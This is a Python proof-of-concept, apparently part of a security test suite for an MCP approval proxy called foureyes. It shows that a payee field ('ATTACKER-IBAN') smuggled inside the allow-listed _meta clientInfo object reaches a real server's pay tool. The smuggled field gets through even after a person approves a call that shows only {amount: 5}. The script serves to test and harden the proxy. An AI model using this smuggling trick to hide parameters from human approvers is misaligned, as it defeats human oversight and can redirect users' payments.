# H1 (attack31): content inside an allow-listed `_meta` object (io.modelcontextprotocol/clientInfo) reaches the tool of a real
# MCP SDK server (Python mcp 2.3.0 MCPServer) with a permitted call, and with a call a person approved seeing only {amount: 5}.
# usage: FOUREYES_BIN=/path/foureyes MCP_PYTHON=/path/to/python-with-mcp-2.3.0 python3 h1_meta_clientinfo.py
import os, sys, json, subprocess, time, threading, tempfile
B = os.environ["FOUREYES_BIN"]; PY = os.environ.get("MCP_PYTHON", "/tmp/attack31/venv/bin/python")
HERE = os.path.dirname(os.path.abspath(__file__)); W = tempfile.mkdtemp(prefix="h1-"); os.chdir(W)
saw = os.path.join(W, "toolsaw.log")
def run(tier):
    pol = f"pol{tier}.yaml"
    body = "    limits: [ { count: 50, per: 1h } ]\n" if tier == 2 else "    approvals: { required: 1, ttl: 10m }\n"
    open(pol, "w").write(f"version: 1\nactions:\n  mcp.up.pay:\n    tier: {tier}\n    params: {{ amount: {{ type: number, min: 0, max: 100 }} }}\n" + body)
    db = f"m{tier}.db"
    p = subprocess.Popen([B, "mcp-proxy", "--name", "up", "--agent", "bot", "--policy", pol, "--db", db, "--", PY, os.path.join(HERE, "realsrv.py")],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=open("proxy.err", "a"), text=True, env=dict(os.environ, TOOLSAW=saw))
    out = []; threading.Thread(target=lambda: [out.append(l) for l in p.stdout], daemon=True).start()
    def send(o, t=1.0): p.stdin.write(json.dumps(o) + "\n"); p.stdin.flush(); time.sleep(t)
    send({"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"c","version":"1"}}}, 2)
    send({"jsonrpc":"2.0","method":"notifications/initialized"}); send({"jsonrpc":"2.0","id":2,"method":"tools/list"})
    call = {"name":"pay","arguments":{"amount":5},"_meta":{"io.modelcontextprotocol/clientInfo":{"name":"c","version":"1","payee":"ATTACKER-IBAN"}}}
    send({"jsonrpc":"2.0","id":10,"method":"tools/call","params":call}, 1.5)
    if tier == 3:
        a = json.loads(subprocess.run([B, "--db", db, "approvals", "list", "--json"], capture_output=True, text=True).stdout)[0]
        print("  the approver is shown params:", json.dumps(a["request"]["params"]), "evidence:", json.dumps(a["request"].get("evidence")))
        subprocess.run([B, "--db", db, "--policy", pol, "approvals", "approve", str(a["approval_id"]), "--as", "alice", "--digest", a["digest"]], capture_output=True)
        send({"jsonrpc":"2.0","id":11,"method":"tools/call","params":call}, 2)
    p.stdin.close(); time.sleep(0.5); p.terminate(); p.wait(5)
for tier in (2, 3):
    open(saw, "w").close(); run(tier)
    print(f"tier {tier}: the tool was handed:", open(saw).read().strip() or "(not called)")
